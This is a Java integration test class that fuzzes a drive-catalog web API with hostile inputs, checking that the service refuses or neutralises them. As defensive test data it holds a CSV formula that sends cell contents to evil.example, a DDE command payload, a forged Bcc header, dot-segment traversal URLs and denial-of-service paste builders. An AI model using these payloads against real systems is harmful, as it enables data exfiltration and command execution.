package dev.drivecat.web;

import static dev.drivecat.testing.Admin.TOKEN;
import static dev.drivecat.testing.Admin.admin;
import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import dev.drivecat.common.Text;
import dev.drivecat.testing.Sql;
import dev.drivecat.web.ApiFuzzTest.Attempt;
import dev.drivecat.web.ApiFuzzTest.Operation;
import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.junit.TestProfile;
import io.restassured.RestAssured;
import io.restassured.response.Response;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.math.BigDecimal;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.PreparedStatement;
import java.sql.SQLException;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import javax.xml.parsers.DocumentBuilderFactory;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;

/**
 * Each class of hostile input of reliability.md ("Hostile input, class by class"), attacked
 * generically, alongside {@link ApiFuzzTest} and in its profile (one start of the service for both):
 * every operation and every member comes from the committed contract (openapi/openapi.yaml), so an
 * operation added later is attacked without a change here.
 * <ul>
 * <li>numbers whose scale explodes: every parameter of every operation, and every number in every
 * JSON body, with huge and tiny exponents (for pages, with Accept: text/html too);</li>
 * <li>bodies past their limit: every operation (the pages the contract leaves out too), declared by
 * Content-Length and never sent; every public POST, streamed in chunks; every body, over HTTP/2 in
 * clear text, where it needs neither Content-Length nor Transfer-Encoding;</li>
 * <li>text from imports with formula starts, control characters and noncharacters, read back from
 * the CSV export, the Atom feed, the SVG chart, the page and the JSON; and stored text the XML
 * writers must not emit as it is;</li>
 * <li>headers: security headers on every answer, Vary: Accept wherever the contract names more than
 * one media type, Location only as a relative reference;</li>
 * <li>metrics: uri tags are path templates, whatever paths are asked for;</li>
 * <li>currencies: every currency parameter and import member, with codes no price is in;</li>
 * <li>item URLs: every product page of every site with dot segments, to the watch list and an import;</li>
 * <li>pasted text: every text/plain operation, at its limit, with pastes built to cost more
 * than linear time or to answer much more than was sent.</li>
 * </ul>
 * Every answer is held to {@link ApiFuzzTest#checkAnswer}: no 5xx, under 1 MB for a request under
 * 1 KB, and no request thread still working once it is answered.
 */
@QuarkusTest
@TestProfile(ApiFuzzTest.Fuzzing.class)
class HostileClassesTest {

    /** The exponents every parameter and every JSON number gets (ApiFuzzTest draws from all of them at random). */
    static final List<String> EXPONENTS = List.of("1e100000000", "-1e999999999", "1e-100000", "1E+2147483647");

    private static final ObjectMapper JSON = new ObjectMapper();

    @jakarta.inject.Inject
    io.vertx.core.Vertx vertx;
    private static final AtomicInteger UNIQUE = new AtomicInteger();

    // ---- numbers

    @TestFactory
    Stream<DynamicTest> everyParameterOfEveryOperationTakesHugeAndTinyExponents() throws IOException {
        List<DynamicTest> tests = new ArrayList<>();
        for (Operation op : ApiFuzzTest.operations()) {
            tests.add(DynamicTest.dynamicTest(op.key(), () -> {
                for (Map<String, String> baseline : baselines(op)) {
                    for (JsonNode parameter : op.parameters()) {
                        for (String value : EXPONENTS) {
                            Attempt attempt = attempt(op, baseline, parameter.path("name").asText(), value, "parameter");
                            for (String accept : op.method().equals("get") ? new String[] {null, "text/html"} : new String[] {null}) {
                                Response response = ApiFuzzTest.send(op, attempt, accept);
                                String what = attempt.describe(op) + (accept == null ? "" : " as " + accept);
                                ApiFuzzTest.checkAnswer(what, ApiFuzzTest.requestBytes(op, attempt), response);
                                if (response.statusCode() == 400 && Problem.MEDIA_TYPE.equals(response.contentType())
                                        && "query".equals(parameter.path("in").asText())) {
                                    assertThat(response.jsonPath().getString("parameter")).as("the parameter the 400 to %s names", what)
                                            .isIn(op.parameterNames());
                                }
                            }
                        }
                    }
                }
            }));
        }
        return tests.stream();
    }

    @TestFactory
    Stream<DynamicTest> everyNumberInEveryJsonBodyTakesHugeAndTinyExponents() throws IOException {
        JsonNode schemas = ApiFuzzTest.contract().path("components").path("schemas");
        List<DynamicTest> tests = new ArrayList<>();
        for (Operation op : ApiFuzzTest.operations()) {
            JsonNode schema = op.spec().path("requestBody").path("content").path("application/json").path("schema");
            if (schema.isMissingNode()) {
                continue;
            }
            tests.add(DynamicTest.dynamicTest(op.key(), () -> {
                JsonNode valid = JSON.readTree(op.key().equals("POST /admin/imports/specs") ? importDocument("numbers-" + UNIQUE.incrementAndGet())
                        : ApiFuzzTest.validBody(op, "application/json"));
                List<String> numbers = new ArrayList<>();
                numericMembers(schemas, schema, valid, "", numbers);
                for (String pointer : numbers) {
                    for (String value : EXPONENTS) {
                        JsonNode body = with(valid, pointer, JsonNodeFactory.instance.numberNode(new BigDecimal(value)));
                        Attempt attempt = new Attempt("body", "exponent at " + pointer, Map.of(), Map.of(), "application/json",
                                JSON.writeValueAsBytes(body), false);
                        Response response = ApiFuzzTest.send(op, attempt);
                        String what = attempt.describe(op);
                        ApiFuzzTest.checkAnswer(what, ApiFuzzTest.requestBytes(op, attempt), response);
                        if (response.statusCode() == 400) {
                            assertThat(response.asString()).as("the 400 to %s points at the member", what).contains("\"" + pointer);
                        }
                    }
                }
                if (op.key().equals("POST /subscriptions") || op.key().equals("POST /admin/imports/specs")) {
                    assertThat(numbers).as("numbers found in the body of %s", op.key()).isNotEmpty();
                }
            }));
        }
        return tests.stream();
    }

    // ---- bodies

    /** Past every operation's limit (the imports', the largest, is 5 MiB) and below the transport's ceiling (6M). */
    static final long PAST_EVERY_LIMIT = 5L * 1024 * 1024 + 1;

    @TestFactory
    Stream<DynamicTest> everyOperationRefusesABodyPastItsLimitBeforeReadingIt() throws IOException {
        return everyOperation().map(op -> DynamicTest.dynamicTest(name(op), () -> {
            // the headers announce the body and not one byte of it is sent: the answer can only come before reading it
            RawAnswer answer = raw(op, "Content-Length: " + PAST_EVERY_LIMIT + "\r\n", null);
            assertThat(answer.status()).as("the answer to %s with a body of %d bytes announced: %s", op.key(), PAST_EVERY_LIMIT, answer.head())
                    .isEqualTo(413);
            assertThat(answer.head().toLowerCase(Locale.ROOT)).contains("content-type: application/problem+json").contains("connection: close");
            ApiFuzzTest.assertSecurityHeaders("the 413 to " + name(op), answer::header);
            long maxBytes = JSON.readTree(answer.body()).path("maxBytes").asLong();
            assertThat(maxBytes).as("the limit the 413 names").isPositive().isLessThan(PAST_EVERY_LIMIT);
        }));
    }

    @TestFactory
    Stream<DynamicTest> everyPublicPostCutsAStreamedBodyAtItsLimit() throws IOException {
        return everyOperation().filter(op -> !op.admin() && op.method().equals("post") && !op.bodyTypes().isEmpty())
                .map(op -> DynamicTest.dynamicTest(name(op), () -> {
                    RawAnswer answer = raw(op, "Transfer-Encoding: chunked\r\n", streamedStart(op));
                    assertCutAtItsLimit(op, answer, "streaming 1 MiB in chunks", limit(op));
                }));
    }

    @TestFactory
    Stream<DynamicTest> everyBodySentOverHttp2IsCutAtItsLimit() throws IOException {
        return everyOperation().filter(op -> !op.bodyTypes().isEmpty()).map(op -> DynamicTest.dynamicTest(name(op), () -> {
            // a body past the limit in DATA frames, which need no length or chunking
            long maxBytes = limit(op);
            RawAnswer answer = http2(op, streamedStart(op), maxBytes + 64 * 1024);
            assertCutAtItsLimit(op, answer, "streaming " + (maxBytes + 64 * 1024) + " bytes over HTTP/2", maxBytes);
        }));
    }

    /** The operation's body limit, as the 413 to a body announced past every limit names it. */
    private static long limit(Operation op) throws IOException {
        return JSON.readTree(raw(op, "Content-Length: " + PAST_EVERY_LIMIT + "\r\n", null).body()).path("maxBytes").asLong();
    }

    /** A body that stays valid as far as it goes: an endless JSON string, an endless form value. */
    private static String streamedStart(Operation op) {
        return op.bodyTypes().get(0).contains("json") ? "{\"email\": \"" : "token=";
    }

    /** A 413 problem naming the limit, or for a page the 413 page saying it. */
    private static void assertCutAtItsLimit(Operation op, RawAnswer answer, String how, long maxBytes) {
        assertThat(answer.status()).as("the answer to %s %s (limit %d): %s", name(op), how, maxBytes, answer.head()).isEqualTo(413);
        ApiFuzzTest.assertSecurityHeaders("the 413 to " + name(op) + " " + how, answer::header);
        String head = answer.head().toLowerCase(Locale.ROOT);
        String body = new String(answer.body(), StandardCharsets.UTF_8);
        if ("text/html".equals(op.accept())) {
            assertThat(head).as("the 413 page to %s", name(op)).contains("content-type: text/html");
            assertThat(body).as("the 413 page to %s names the limit", name(op)).contains(" " + maxBytes + " bytes");
        } else {
            assertThat(head).as("the 413 to %s", name(op)).contains("content-type: application/problem+json");
            assertThat(body).as("the 413 to %s names the limit", name(op)).contains("\"maxBytes\":" + maxBytes);
        }
    }

    // ---- text

    /**
     * Text from outside that a JSON body takes (tab, CR and LF are allowed in it) and the writers
     * must not pass on as it is: formula starts, a forged header line. An import of it is read back
     * from every output, or refused for what the member must be (a slug, a URL, a token, a date).
     */
    static final List<String> READ_BACK = List.of("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")\r\nBcc: victim@evil.example\t@x",
            "+cmd|' /C calc'!A0", "@SUM(1+1)");

    /** Text a JSON body refuses in any member (a 400 pointing at it): control characters but tab, CR and LF, and noncharacters. */
    static final List<String> REFUSED = List.of("Seller\u0001\u000b", "@SUM(1+1)\u007f\u0085", "+cmd\ufffe\ufdd0");

    /** The members whose text reaches the CSV export (seller, availability) and the feed's and the chart's titles (model). */
    static final List<String> WRITTEN_OUT = List.of("/drives/0/model", "/listings/0/sellerName", "/listings/0/observations/0/availability");

    @TestFactory
    Stream<DynamicTest> everyTextFieldThatReachesCsvXmlAndHtmlIsNeutralised() throws IOException {
        JsonNode schemas = ApiFuzzTest.contract().path("components").path("schemas");
        JsonNode base = JSON.readTree(importDocument("text-0"));
        List<String> texts = new ArrayList<>();
        textMembers(schemas, schemas.path("ImportDocument"), base, "", texts);
        assertThat(texts).as("text members of an import").containsAll(WRITTEN_OUT);
        return texts.stream().map(pointer -> DynamicTest.dynamicTest(pointer, () -> {
            int readBack = 0;
            for (String text : READ_BACK) {
                String key = "text-" + UNIQUE.incrementAndGet();
                Response imported = importWith(key, pointer, text);
                String what = "an import with " + Text.quote(text) + " at " + pointer;
                if (imported.statusCode() != 200) {
                    // refused for what the member must be (a slug, a URL, a token, a date): said where
                    assertThat(imported.statusCode()).as("the answer to %s: %s", what, imported.asString()).isEqualTo(400);
                    assertThat(imported.asString()).as("the refusal of %s points at the member", what).contains(pointer);
                    continue;
                }
                readBackClean(slug(key), what);
                readBack++;
            }
            if (WRITTEN_OUT.contains(pointer)) {
                assertThat(readBack).as("imports read back with each of %s at %s", READ_BACK, pointer).isEqualTo(READ_BACK.size());
            }
            for (String text : REFUSED) {
                Response imported = importWith("text-" + UNIQUE.incrementAndGet(), pointer, text);
                String what = "an import with " + Text.quote(text) + " at " + pointer;
                assertThat(imported.statusCode()).as("the answer to %s: %s", what, imported.asString()).isEqualTo(400);
                assertThat(imported.asString()).as("the refusal of %s points at the member", what).contains(pointer);
            }
        }));
    }

    /** The import of one drive and its listing with the text at the pointer, answered as every generic test's answer is held. */
    private static Response importWith(String key, String pointer, String text) throws Exception {
        JsonNode doc = with(JSON.readTree(importDocument(key)), pointer, JsonNodeFactory.instance.textNode(text));
        Response imported = admin().contentType("application/json").body(JSON.writeValueAsBytes(doc)).when().post("/admin/imports/specs").andReturn();
        ApiFuzzTest.checkAnswer("an import with " + Text.quote(text) + " at " + pointer, 0, imported);
        return imported;
    }

    /** Every output of a drive read back: nothing a spreadsheet runs, nothing XML forbids, no control characters, names one line. */
    private static void readBackClean(String slug, String what) throws Exception {
        Response csv = given().accept("text/csv").when().get("/drives/" + slug + "/prices").andReturn();
        ApiFuzzTest.checkAnswer("the CSV after " + what, 0, csv);
        assertThat(csv.statusCode()).as("the CSV after %s: %s", what, csv.asString()).isEqualTo(200);
        int rowsRead = 0;
        try (var rows = new CsvMapper().readerFor(String[].class).with(CsvParser.Feature.WRAP_AS_ARRAY).<String[]>readValues(csv.asByteArray())) {
            for (; rows.hasNext(); rowsRead++) {
                for (String cell : rows.next()) {
                    assertThat(Text.csvCell(cell)).as("a CSV cell after %s", what).isEqualTo(cell);
                    assertThat(Text.singleLine(cell)).as("a CSV cell after %s", what).isEqualTo(cell.strip());
                }
            }
        }
        assertThat(rowsRead).as("the CSV's header and two observations after %s", what).isEqualTo(3);
        assertXml(given().accept("application/atom+xml").when().get("/price-changes?week=2026-W47&drive=" + slug).andReturn(),
                "the Atom feed after " + what, "entry");
        assertXml(given().when().get("/drives/" + slug + "/prices.svg").andReturn(), "the chart after " + what, "svg");
        Response page = given().accept("text/html").when().get("/drives/" + slug).andReturn();
        ApiFuzzTest.checkAnswer("the page after " + what, 0, page);
        assertThat(Text.firstRemoved(page.asString())).as("the first control character or noncharacter in the page after %s", what).isEqualTo(-1);
        Response json = given().accept("application/json").when().get("/drives/" + slug).andReturn();
        ApiFuzzTest.checkAnswer("the drive after " + what, 0, json);
        for (String name : List.of("vendor", "model")) {
            String value = json.jsonPath().getString(name);
            assertThat(Text.singleLine(value)).as("the drive's %s after %s", name, what).isEqualTo(value);
        }
    }

    @Test
    void theXmlWritersNeverEmitWhatXmlForbidsWhateverWasStored() throws Exception {
        String key = "stored-" + UNIQUE.incrementAndGet();
        admin().contentType("application/json").body(importDocument(key)).when().post("/admin/imports/specs").then().statusCode(200);
        // as rows stored before text was normalised at ingestion may still read
        sql("UPDATE drive SET model = ? WHERE slug = ?", "Dirty\u0001\u000b\ufffe\r\nBcc: victim@evil.example", slug(key));
        sql("UPDATE listing SET seller_name = ? WHERE external_id = ?", "=HYPERLINK(\"x\")\u0000\u0008", externalId(key));
        assertXml(given().accept("application/atom+xml").when().get("/price-changes?week=2026-W47&drive=" + slug(key)).andReturn(),
                "the Atom feed of a drive stored with control characters", "entry");
        assertXml(given().when().get("/drives/" + slug(key) + "/prices.svg").andReturn(), "the chart of a drive stored with control characters",
                "svg");
    }

    // ---- currencies

    /**
     * Every currency an operation takes, as a parameter named currency or as a currency member of a
     * JSON body, is an ISO 4217 code prices are written in: a made-up code, one for no currency, for
     * testing, a metal, a fund, or anything not three letters is a 400 naming the parameter or
     * pointing at the member, and nothing is stored; a code in lower case is read as the code.
     */
    @TestFactory
    Stream<DynamicTest> everyCurrencyAnOperationTakesIsACodePricesAreWrittenIn() throws IOException {
        List<String> refused = dev.drivecat.common.CurrenciesTest.NO_PRICES_CURRENCY.stream().filter(c -> !c.isBlank()).toList();
        List<DynamicTest> tests = new ArrayList<>();
        for (Operation op : ApiFuzzTest.operations()) {
            if (op.parameterNames().contains("currency")) {
                tests.add(DynamicTest.dynamicTest(op.key() + " ?currency=", () -> {
                    Map<String, String> baseline = baselines(op).get(0);
                    for (String code : refused) {
                        Attempt attempt = attempt(op, baseline, "currency", code, "currency");
                        Response response = ApiFuzzTest.send(op, attempt);
                        ApiFuzzTest.checkAnswer(attempt.describe(op), 0, response);
                        assertThat(response.statusCode()).as("the answer to %s", attempt.describe(op)).isEqualTo(400);
                        assertThat(response.jsonPath().getString("parameter")).isEqualTo("currency");
                    }
                    Response lower = ApiFuzzTest.send(op, attempt(op, baseline, "currency", "eur", "currency"));
                    assertThat(lower.statusCode()).as("%s with currency=eur", op.key()).isNotEqualTo(400);
                }));
            }
        }
        tests.add(DynamicTest.dynamicTest("POST /admin/imports/specs, every currency member", () -> {
            JsonNode valid = JSON.readTree(importDocument("currency-" + UNIQUE.incrementAndGet()));
            List<String> pointers = new ArrayList<>();
            membersNamed(valid, "", "currency", pointers);
            assertThat(pointers).as("currency members of an import").isNotEmpty();
            for (String pointer : pointers) {
                for (String code : refused) {
                    Response imported = admin().contentType("application/json").body(JSON.writeValueAsBytes(with(valid, pointer,
                            JsonNodeFactory.instance.textNode(code)))).when().post("/admin/imports/specs").andReturn();
                    String what = "an import with currency " + Text.quote(code) + " at " + pointer;
                    ApiFuzzTest.checkAnswer(what, 0, imported);
                    assertThat(imported.statusCode()).as("the answer to %s: %s", what, imported.asString()).isEqualTo(400);
                    assertThat(imported.asString()).as("the refusal of %s points at the member", what).contains(pointer);
                }
            }
        }));
        return tests.stream();
    }

    /** The pointers of every member of that name in a JSON tree. */
    private static void membersNamed(JsonNode node, String pointer, String name, List<String> found) {
        if (node.isObject()) {
            node.fields().forEachRemaining(member -> {
                String at = pointer + "/" + member.getKey();
                if (member.getKey().equals(name)) {
                    found.add(at);
                }
                membersNamed(member.getValue(), at, name, found);
            });
        } else if (node.isArray()) {
            for (int i = 0; i < node.size(); i++) {
                membersNamed(node.get(i), pointer + "/" + i, name, found);
            }
        }
    }

    // ---- item URLs

    /**
     * A URL kept as a listing's or a watched page's is linked from every page that shows the offer:
     * it must be an item page as a browser reads it. Every product page of every site, with dot
     * segments in every spelling a browser reads as one, is sent to the watch list (POST
     * /admin/listings) and as a listing of an import: one that climbs out of the item page
     * (/itm/1/../../signin) is a 400 naming the URL, one that comes back to it is kept without its
     * dot segments.
     */
    @TestFactory
    Stream<DynamicTest> everyItemUrlIsKeptAsABrowserReadsItAndOnlyWhenItIsAnItemPage() {
        return dev.drivecat.scraping.SiteDefinitionsTest.PRODUCT_PAGES.stream().map(raw -> DynamicTest.dynamicTest(raw, () -> {
            java.net.URI page = java.net.URI.create(raw);
            String base = page.getScheme() + "://" + page.getRawAuthority();
            String query = page.getRawQuery() == null ? "" : "?" + page.getRawQuery();
            for (String dot : List.of("..", "%2e%2e", ".%2E")) {
                String out = base + page.getRawPath() + "/" + dot + "/" + dot + "/" + dot + "/signin" + query;
                String detour = base + "/x/" + dot + page.getRawPath() + query;
                Response refused = watch(out);
                assertThat(refused.statusCode()).as("the watch list given %s: %s", out, refused.asString()).isEqualTo(400);
                assertThat(refused.jsonPath().getString("parameter")).isEqualTo("url");
                Response kept = watch(detour);
                assertThat(kept.statusCode()).as("the watch list given %s: %s", detour, kept.asString()).isIn(200, 201);
                assertThat(kept.jsonPath().getString("url")).as("the page kept for %s", detour).isEqualTo(base + page.getRawPath() + query);
                String key = "url-" + UNIQUE.incrementAndGet();
                Response imported = importListingUrl(key, out);
                assertThat(imported.statusCode()).as("an import of a listing at %s: %s", out, imported.asString()).isEqualTo(400);
                assertThat(imported.asString()).contains("/listings/0/url");
            }
        }));
    }

    private static Response watch(String url) throws IOException {
        ObjectNode body = JsonNodeFactory.instance.objectNode().put("url", url).put("drive", "intel-optane-p4800x-375gb-u2");
        Response answer = admin().contentType("application/json").body(JSON.writeValueAsBytes(body)).when().post("/admin/listings").andReturn();
        ApiFuzzTest.checkAnswer("POST /admin/listings with " + url, 0, answer);
        return answer;
    }

    private static Response importListingUrl(String key, String url) throws IOException {
        JsonNode doc = with(JSON.readTree(importDocument(key)), "/listings/0/url", JsonNodeFactory.instance.textNode(url));
        Response answer = admin().contentType("application/json").body(JSON.writeValueAsBytes(doc)).when().post("/admin/imports/specs").andReturn();
        ApiFuzzTest.checkAnswer("an import of a listing at " + url, 0, answer);
        return answer;
    }

    // ---- pasted text

    /**
     * Outputs of the tools an operation reads, beside its valid body, that the pastes below are built
     * from: every kind of output each reader knows (zdb's statistics and zpool list -v as well as
     * zpool status; nvme list as well as smartctl).
     */
    static final Map<String, List<String>> PASTE_EXAMPLES = Map.of(
            "POST /identify", List.of("fixtures/identify/smartctl-ata-two-drives.txt", "fixtures/identify/nvme-list-two.txt"),
            "POST /pools/parse", List.of("pools/raidz2x2-logs-list-v-zdb.txt", "pools/status-draid-special-logs.txt"),
            "POST /recommend", List.of("pools/raidz2x2-logs-list-v-zdb.txt"));

    /** How many lines of an example are each repeated alone to the limit. */
    static final int LINES_REPEATED = 12;

    /**
     * Every operation that reads pasted text (a text/plain body: tool outputs, pools, zdb) is sent,
     * at its body limit, pastes built to make a reader work more than linearly or answer much more
     * than it was sent, from its valid body and the outputs it reads: one character and newlines (the
     * 2026-12-05 attack), the example repeated, its lines each made a new name (no two pools or
     * devices alike), each of its lines alone repeated (a pool's name 32,768 times), its words on one
     * line between long runs of white space, and lines of each of its words repeated. Each is read
     * within the request's deadline (a paste read in quadratic time took minutes), answered with a
     * decision or a 400/422 that says what the paste lacks, and held to {@link ApiFuzzTest#checkAnswer}
     * (its size bound, the idle worker pool).
     */
    @TestFactory
    Stream<DynamicTest> everyPasteIsReadWithinTheDeadlineAndAnsweredWithinItsBound() throws IOException {
        proposalNamedByTheContractsExample();
        return everyOperation().filter(op -> op.bodyTypes().contains("text/plain")).map(op -> DynamicTest.dynamicTest(name(op), () -> {
            int limit = (int) limit(op);
            Attempt valid = attempt(op, baselines(op).get(0), null, null, "valid");
            List<String> examples = new ArrayList<>(List.of(ApiFuzzTest.validBody(op, "text/plain")));
            for (String resource : PASTE_EXAMPLES.getOrDefault(op.key(), List.of())) {
                try (InputStream in = HostileClassesTest.class.getClassLoader().getResourceAsStream(resource)) {
                    examples.add(new String(in.readAllBytes(), StandardCharsets.UTF_8));
                }
            }
            Map<String, String> pastes = new LinkedHashMap<>();
            pastes.put("one character and newlines", "x" + "\n".repeat(limit - 1));
            for (int e = 0; e < examples.size(); e++) {
                pastes.putAll(hostilePastes("example " + e, examples.get(e), limit));
            }
            for (Map.Entry<String, String> paste : pastes.entrySet()) {
                byte[] body = paste.getValue().getBytes(StandardCharsets.UTF_8);
                Attempt attempt = new Attempt("body", paste.getKey(), valid.query(), valid.path(), "text/plain", body, false);
                Response response = ApiFuzzTest.send(op, attempt);
                String what = attempt.describe(op);
                ApiFuzzTest.checkAnswer(what, body.length, response);
                assertThat(response.statusCode()).as("the answer to %s: %s", what, response.asString().length() > 500
                        ? response.asString().substring(0, 500) : response.asString()).isIn(200, 201, 400, 422);
            }
        }));
    }

    /**
     * An open proposal under the id the contract's examples give ({@code 1}), so that a document pasted
     * to adopt it is read rather than answered 404 before it is: a drive the catalog lacks, which no
     * hostile paste describes.
     */
    static void proposalNamedByTheContractsExample() {
        Sql.execute(Sql.quarkusDatasource(), """
                INSERT INTO proposal (id, maker, maker_name, model, model_key, capacity_gb, known_series, first_seen, last_seen)
                OVERRIDING SYSTEM VALUE VALUES (1, 'example', 'Example', 'Hostile Paste Target', 'hostilepastetarget', 1, false, now(), now())
                ON CONFLICT DO NOTHING""");
    }

    /** The pastes built from one example, each cut to the limit in bytes. */
    static Map<String, String> hostilePastes(String name, String example, int limit) {
        Map<String, String> pastes = new LinkedHashMap<>();
        List<String> lines = example.lines().filter(l -> !l.isBlank()).distinct().toList();
        List<String> words = example.lines().flatMap(l -> Stream.of(l.trim().split("\\s+"))).filter(w -> !w.isEmpty()).distinct().toList();
        pastes.put(name + " repeated", upTo(limit, k -> example));
        pastes.put(name + " with every line a new name", upTo(limit, k -> example.lines()
                .map(l -> l.replaceFirst("^(\\s*)(\\S+)", "$1$2" + k)).reduce("", (a, b) -> a + b + "\n")));
        for (String line : lines.subList(0, Math.min(lines.size(), LINES_REPEATED))) {
            pastes.put(name + ", " + Text.quote(line.strip()) + " repeated", upTo(limit, k -> line + "\n"));
        }
        pastes.put(name + ", its words between long runs of white space", upTo(limit, k -> words.get(k % words.size()) + " \t".repeat(1000)));
        pastes.put(name + ", lines of each of its words", upTo(limit, k -> (words.get(k % words.size()) + " ").repeat(2000 / (1 + words.get(k
                % words.size()).length())) + "\n"));
        return pastes;
    }

    /** The pieces k = 0, 1, … one after the other, up to {@code limit} bytes of UTF-8. */
    private static String upTo(int limit, java.util.function.IntFunction<String> piece) {
        StringBuilder paste = new StringBuilder();
        for (int k = 0; ; k++) {
            String next = piece.apply(k);
            if (paste.length() + next.getBytes(StandardCharsets.UTF_8).length > limit) {
                return paste.length() > 0 ? paste.toString() : next.substring(0, Math.min(next.length(), limit / 4));
            }
            paste.append(next);
        }
    }

    // ---- headers

    @TestFactory
    Stream<DynamicTest> everyAnswerCarriesTheSecurityHeadersAndNegotiatedOnesVaryOnAccept() throws IOException {
        return ApiFuzzTest.operations().stream().filter(op -> op.method().equals("get")).map(op -> DynamicTest.dynamicTest(op.key(), () -> {
            Map<String, String> baseline = baselines(op).get(0);
            List<String> types = new ArrayList<>(op.responseTypes(200));
            types.add("text/html");
            for (String accept : types) {
                Attempt attempt = attempt(op, baseline, null, null, "valid");
                Response response = ApiFuzzTest.send(op, attempt, accept);
                String what = op.key() + " as " + accept;
                // the security headers, as on every answer checkAnswer sees (every generic test's: POSTs, 4xx and 413s too)
                ApiFuzzTest.checkAnswer(what, 0, response);
                if (op.responseTypes(200).size() > 1) {
                    assertThat(response.header("Vary")).as("Vary on %s, which answers %s", what, op.responseTypes(200)).contains("Accept");
                }
            }
        }));
    }

    // ---- metrics

    /** The uri tag values Micrometer uses for requests no template describes. */
    static final Set<String> FIXED_URI_TAGS = Set.of("UNKNOWN", "NOT_FOUND", "REDIRECTION", "root");
    private static final Pattern URI_TAG = Pattern.compile("^http_server_requests_seconds_count\\{[^}]*uri=\"([^\"]*)\"", Pattern.MULTILINE);

    @Test
    void metricsTagRequestsWithPathTemplatesOnlyWhateverPathsAreAsked() throws IOException {
        for (int i = 0; i < 150; i++) {
            given().when().get("/admin/made-up-" + i).then().statusCode(401);
            given().when().get("/made-up-" + i).then().statusCode(404);
        }
        // drives no one has: the routes match, with a slug of their own each time
        for (int i = 0; i < 150; i++) {
            given().when().get("/drives/fake-ssd-" + i + "/prices.svg").then().statusCode(404);
            given().accept(i % 2 == 0 ? "application/json" : "text/html").when().get("/drives/fake-ssd-" + i).then().statusCode(404);
        }
        given().when().get("/offers").then().statusCode(200);
        Set<String> templates = new java.util.HashSet<>(FIXED_URI_TAGS);
        ApiFuzzTest.operations().forEach(op -> templates.add(op.path()));
        String metrics = given().when().get("/q/metrics").then().statusCode(200).extract().asString();
        List<String> tags = new ArrayList<>();
        Matcher m = URI_TAG.matcher(metrics);
        while (m.find()) {
            tags.add(m.group(1));
        }
        // every tag a template of the contract (the pages share its addresses), a fixed one, or Quarkus's own endpoints'
        assertThat(tags).as("uri tags after made-up paths and drives no one has").contains("/offers", "/drives/{slug}", "/drives/{slug}/prices.svg")
                .allSatisfy(tag -> assertThat(templates.contains(tag) || tag.startsWith("/q/")).as("%s is a template of %s", tag, templates).isTrue())
                .noneMatch(tag -> tag.contains("made-up") || tag.contains("fake-ssd"));
    }

    // ---- helpers

    /** The contract's operations and those it leaves out (the pages for people, asked for text/html). */
    static Stream<Operation> everyOperation() throws IOException {
        return Stream.concat(ApiFuzzTest.operations().stream(), ApiFuzzTest.hiddenOperations().stream());
    }

    /** The operation's name in a test's name: its method and path, and what it is asked for when that is not any type. */
    static String name(Operation op) {
        return op.key() + (op.accept() == null ? "" : " as " + op.accept());
    }

    /**
     * The values of the operation's path and required parameters to start from: the contract's
     * examples, and for a required parameter with a closed set of values (role=slog|special), each
     * of them, as the 400 for a value outside the set names them.
     */
    static List<Map<String, String>> baselines(Operation op) {
        Map<String, String> examples = new LinkedHashMap<>();
        for (JsonNode parameter : op.parameters()) {
            if ("path".equals(parameter.path("in").asText()) || parameter.path("required").asBoolean()) {
                examples.put(parameter.path("name").asText(), ApiFuzzTest.example(parameter));
            }
        }
        List<Map<String, String>> baselines = new ArrayList<>(List.of(examples));
        for (JsonNode parameter : op.parameters()) {
            String name = parameter.path("name").asText();
            if (!parameter.path("required").asBoolean() || "path".equals(parameter.path("in").asText())) {
                continue;
            }
            Response asked = ApiFuzzTest.send(op, attempt(op, examples, name, "not-one-of-them", "closed set"));
            List<String> allowed = asked.statusCode() == 400 && Problem.MEDIA_TYPE.equals(asked.contentType())
                    ? asked.jsonPath().getList("allowed", String.class) : null;
            // a closed set the contract's example belongs to (role: slog, special), not some other list the 400 gives
            if (allowed != null && allowed.contains(examples.get(name)) && name.equals(asked.jsonPath().getString("parameter"))) {
                List<Map<String, String>> each = new ArrayList<>();
                for (Map<String, String> b : baselines) {
                    for (String value : allowed) {
                        Map<String, String> variant = new LinkedHashMap<>(b);
                        variant.put(name, value);
                        each.add(variant);
                    }
                }
                baselines = each;
            }
        }
        return baselines;
    }

    /** A request of the operation from the baseline with one parameter set (none when {@code name} is null) and a valid body. */
    static Attempt attempt(Operation op, Map<String, String> baseline, String name, String value, String kind) {
        Map<String, String> query = new LinkedHashMap<>();
        Map<String, String> path = new LinkedHashMap<>();
        for (JsonNode parameter : op.parameters()) {
            String n = parameter.path("name").asText();
            String v = n.equals(name) ? value : baseline.get(n);
            if (v != null) {
                ("path".equals(parameter.path("in").asText()) ? path : query).put(n, v);
            }
        }
        String type = op.bodyTypes().isEmpty() ? null : op.bodyTypes().get(0);
        byte[] body = type == null ? null : ApiFuzzTest.validBody(op, type).getBytes(StandardCharsets.UTF_8);
        return new Attempt(name == null ? "nothing" : name, kind, query, path, type, body, false);
    }

    /** The JSON pointers of the numbers in a body of this schema: its numeric members, given or not. */
    static void numericMembers(JsonNode schemas, JsonNode schema, JsonNode value, String pointer, List<String> found) {
        JsonNode s = resolve(schemas, schema);
        if (value.isObject()) {
            for (Iterator<Map.Entry<String, JsonNode>> it = s.path("properties").fields(); it.hasNext(); ) {
                Map.Entry<String, JsonNode> property = it.next();
                JsonNode ps = resolve(schemas, property.getValue());
                String at = pointer + "/" + property.getKey();
                if (isNumeric(schemas, ps)) {
                    found.add(at);
                } else if (value.has(property.getKey())) {
